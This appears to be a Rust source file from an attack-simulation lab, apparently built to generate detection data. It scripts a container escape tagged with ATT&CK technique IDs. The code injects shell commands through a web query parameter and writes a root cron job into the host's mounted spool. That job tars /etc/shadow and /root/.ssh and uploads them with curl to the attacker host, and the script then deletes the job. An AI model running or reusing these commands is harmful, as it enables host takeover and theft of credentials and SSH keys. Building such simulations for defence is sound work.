@@ -1,0 +1,66 @@
+//! A service in a container shows the host's spool; through a hole in it, a job for the host's cron is put there.
+//!
+//! Hard because: containers start all the time, one of them cleans up below the host's folders, and cron runs jobs every minute.
+
+use crate::Lab;
+use crate::life::{containers, host_tasks, remote, status, web};
+use crate::network::get;
+use crate::program::user;
+use anyhow::{Result, ensure};
+
+pub fn run(lab: &mut Lab) -> Result<()> {
+    let host = lab.host("box-1")?;
+    let (people, admin, attacker) = (lab.outsider("people")?, lab.outsider("admin")?, lab.outsider("attacker")?);
+    remote::serve(&host)?;
+    host_tasks::start(lab, &host)?;
+    containers::serve(&host)?;
+    containers::cleaner(&host)?;
+    containers::restart_loop(lab, &host, "worker")?;
+    host.put("/var/spool/cron/crontabs/.keep", "", 0o600)?;
+    host.put("/var/spool/jobs/day.txt", &"done\n".repeat(40), 0o644)?;
+    status::contain(&host, user::ROOT, "/mnt/jobs", &["/var/spool:/mnt"])?;
+    status::look(lab, &people, &host, "day.txt")?;
+    remote::work(lab, &admin, &host, "deploy")?;
+    web::take_upload(&attacker)?;
+    lab.wait(15..22);
+
+    let attack = lab.attack("container escape through a path of the host");
+    let call = |commands: &str| get(&attacker, host.address, status::PORT, &format!("/tail?day.txt; {commands}"));
+    let step = attack.step("a look around in the container", &["T1190", "T1059.004", "T1083"]);
+    step.remote(&host, &attacker);
+    let look = *lab.pick(&["cat /proc/1/cgroup", "ls -la /", "cat /etc/passwd"]);
+    let said = call(&format!("{} id; {look}; ls -ld /mnt/cron/crontabs", containers::mark(&step, &host)?))?;
+    ensure!(said.contains("uid=0") && said.contains("crontabs"), "the container was not entered: {said}");
+    drop(step);
+    lab.wait(3..7);
+
+    let (state, inside) = (format!("/var/tmp/.{}", lab.word(6)), "/mnt/cron/crontabs/root");
+    let step = attack.step("a job for the host is left", &["T1611", "T1053.003"]);
+    step.remote(&host, &attacker);
+    // The same file, as the container and as the host sees it.
+    for path in [inside, "/var/spool/cron/crontabs/root"] {
+        step.file(&host, path);
+    }
+    let next = attack.step("the host runs it", &["T1053.003", "T1003.008", "T1041"]);
+    let job = format!(
+        "* * * * * {} [ -e {state} ] || tar -cf - /etc/shadow /root/.ssh 2>/dev/null | curl -s -T - http://{}/; id > {state}",
+        next.mark(&host)?,
+        attacker.address
+    );
+    call(&format!("{} echo \"{job}\" > {inside}; chmod 600 {inside}", containers::mark(&step, &host)?))?;
+    drop(step);
+
+    next.begin();
+    next.remote(&host, &attacker);
+    next.file(&host, &state);
+    host.wait_for_file(&state)?;
+    drop(next);
+    lab.wait(2..5);
+
+    let step = attack.step("the job is removed", &["T1070.004"]);
+    step.remote(&host, &attacker);
+    call(&format!("{} rm {inside}", containers::mark(&step, &host)?))?;
+    drop(step);
+    lab.wait(8..14);
+    Ok(())
+}
